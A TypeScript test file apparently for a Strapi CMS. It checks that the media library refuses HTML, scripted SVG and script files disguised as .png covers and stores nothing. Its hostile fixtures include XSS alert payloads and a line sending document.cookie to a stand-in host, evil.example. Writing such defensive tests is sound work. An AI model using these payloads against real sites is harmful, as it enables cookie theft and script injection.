import fs from 'fs/promises';
import path from 'path';
import { paginateListObjectsV2 } from '@aws-sdk/client-s3';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { openCmsDatabase } from './database';
import { htmlBytes, pngBytes } from './fixtures';
import { api, cmsUrl, expectError, loginAsAdmin, s3, s3Client, type ApiResponse, sharedPanelToken } from './helpers';

/**
 * Cover images (docs/017-security-audit.md): the media library stores only the image types the site shows, checked by
 * name and by content, whichever door the file comes through — the content API with a staff token (upload and
 * replace) and Strapi's admin panel. HTML, SVG or script bytes named `.png` are refused with a 400 and nothing is
 * kept, neither a media library row nor a file.
 */

const database = openCmsDatabase();
let admin: string;

beforeAll(async () => {
  admin = await loginAsAdmin();
});

afterAll(async () => {
  await database.destroy();
});

/** A 4 × 3 image in `format`, made with sharp. */
function image(format: 'jpeg' | 'webp'): Promise<Buffer> {
  return sharp({ create: { width: 4, height: 3, channels: 3, background: '#3366cc' } })
    .toFormat(format)
    .toBuffer();
}

const HOSTILE: Array<[string, Buffer]> = [
  ['an HTML page', htmlBytes()],
  [
    'an SVG with a script',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>\n'),
  ],
  ['a script', Buffer.from('fetch("https://evil.example/?c=" + document.cookie);\n')],
];

/** A multipart body with one file under `files`. */
function fileForm(bytes: Uint8Array, name: string, type: string): FormData {
  const form = new FormData();
  form.append('files', new Blob([bytes], { type }), name);
  return form;
}

/** Uploads one file to the media library through the content API as staff (`?id=` replaces that file). */
function upload(bytes: Uint8Array, name: string, type: string, replace?: number): Promise<ApiResponse> {
  return api('POST', replace ? `/upload?id=${replace}` : '/upload', {
    token: admin,
    form: fileForm(bytes, name, type),
  });
}

/** What the media library holds: its rows, and the files of its storage (the upload folder, or the S3 bucket). */
async function stored(): Promise<{ rows: number; files: string[] }> {
  const [{ count }] = await database('files').count({ count: '*' });
  let files: string[] = [];
  if (s3) {
    for await (const page of paginateListObjectsV2({ client: s3Client() }, { Bucket: s3.bucket })) {
      files.push(...(page.Contents ?? []).map((object) => object.Key!).filter((key) => !key.includes('/')));
    }
  } else {
    files = await fs.readdir(path.join(inject('dataDir'), 'public', 'uploads'));
  }
  return { rows: Number(count), files: files.sort() };
}

describe('POST /api/upload with a staff token', () => {
  it.each(HOSTILE)('refuses %s named .png (400), storing nothing', async (_label, bytes) => {
    const before = await stored();
    const response = await upload(bytes, 'cover.png', 'image/png');
    expectError(response, 400, "The file's content is not a .png image.");
    expect(await stored()).toEqual(before);
  });

  it('refuses an upload whose second file is not an image, storing neither', async () => {
    const before = await stored();
    const form = fileForm(pngBytes(), 'first.png', 'image/png');
    form.append('files', new Blob([htmlBytes()], { type: 'image/png' }), 'second.png');
    expectError(await api('POST', '/upload', { token: admin, form }), 400);
    expect(await stored()).toEqual(before);
  });

  it('refuses a replacement of a cover by HTML named .png, keeping the cover', async () => {
    const original = await upload(pngBytes(), 'kept.png', 'image/png');
    expect(original.status, JSON.stringify(original.body)).toBe(201);
    const { id, url } = original.body[0] as { id: number; url: string };
    const before = await stored();
    expectError(await upload(htmlBytes(), 'kept.png', 'image/png', id), 400);
    expect(await stored()).toEqual(before);
    const served = await fetch(new URL(url, cmsUrl()));
    expect(Buffer.from(await served.arrayBuffer()).subarray(0, 8)).toEqual(pngBytes().subarray(0, 8));
  });

  it.each([
    ['a PNG', () => Promise.resolve(pngBytes()), 'cover.png', 'image/png'],
    ['a JPEG', () => image('jpeg'), 'cover.jpg', 'image/jpeg'],
    ['a WebP', () => image('webp'), 'cover.webp', 'image/webp'],
  ])('stores %s', async (_label, bytes, name, type) => {
    const response = await upload(await bytes(), name, type);
    expect(response.status, JSON.stringify(response.body)).toBe(201);
    expect(response.body[0]).toMatchObject({ mime: type, width: 4, height: 3 });
  });

  it('refuses a real image whose name is not a cover type (a PNG named .svg)', async () => {
    const before = await stored();
    expectError(await upload(pngBytes(), 'cover.svg', 'image/svg+xml'), 400);
    expect(await stored()).toEqual(before);
  });
});

describe("Strapi's admin panel upload", () => {
  it('refuses HTML named .png the same way, and stores a PNG', async () => {
    const token = sharedPanelToken();
    const send = (bytes: Uint8Array, name: string) =>
      fetch(`${cmsUrl()}/upload`, {
        method: 'POST',
        headers: { Authorization: `Bearer ${token}` },
        body: fileForm(bytes, name, 'image/png'),
      });
    const before = await stored();
    const refused = await send(htmlBytes(), 'panel.png');
    expect(refused.status).toBe(400);
    expect(((await refused.json()) as { error: { message: string } }).error.message).toContain(
      "The file's content is not a .png image.",
    );
    expect(await stored()).toEqual(before);
    expect((await send(pngBytes(), 'panel.png')).status).toBe(201);
  });
});
